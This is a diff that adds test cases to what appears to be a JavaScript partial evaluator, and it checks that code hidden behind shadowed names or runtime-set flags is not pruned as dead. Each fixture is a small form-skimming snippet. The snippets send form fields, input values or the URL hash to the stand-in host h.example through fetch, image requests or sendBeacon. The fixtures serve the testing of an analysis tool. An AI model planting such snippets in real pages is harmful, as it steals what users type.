@@ -105,6 +105,34 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     source: `var d = []; document.addEventListener('change', function (e) { d.push(e.target.value) }); setTimeout(function () { fetch('https://h.example/?' + d.join(',')) }, 9)`,
     has: ["d.join(',')"],
   },
+  {
+    name: 'a block-scoped name that hides an outer function keeps the branches on it',
+    source: `function i(){return 0}
+      function walk(list){for(;list.length>0;){const t=list.pop(),i=t.nodeType;if(1===i){new Image().src='https://h.example/c?v='+t.value}}}
+      walk([].slice.call(document.forms))`,
+    has: ["new Image().src='https://h.example/c?v='+t.value"],
+  },
+  {
+    name: 'a catch parameter and a loop binding hide outer functions too',
+    source: `function e(){return 0} function k(){return 0}
+      function go(xs){try{JSON.parse(xs)}catch(e){if(e===1)fetch('https://h.example/a')}for(const k of xs){if(k!==e)fetch('https://h.example/b?'+k)}}
+      go(location.hash)`,
+    has: ["fetch('https://h.example/a')", "fetch('https://h.example/b?'+k)"],
+  },
+  {
+    name: 'a destructured parameter hides an outer function',
+    source: `function v(){return 0}
+      function send({v}){if(v==='x'){navigator.sendBeacon('https://h.example/s',v)}}
+      document.addEventListener('change',function(ev){send({v:ev.target.value})})`,
+    has: ["navigator.sendBeacon('https://h.example/s',v)"],
+  },
+  {
+    name: 'a property of a function object that code sets later is not a constant branch',
+    source: `function p(){} p.ready=false
+      document.addEventListener('DOMContentLoaded',function(){p.ready=true})
+      document.addEventListener('change',function(ev){if(p.ready){fetch('https://h.example/p?'+ev.target.value)}})`,
+    has: ["fetch('https://h.example/p?'+ev.target.value)"],
+  },
 ]
 
 describe('partial evaluator', () => {
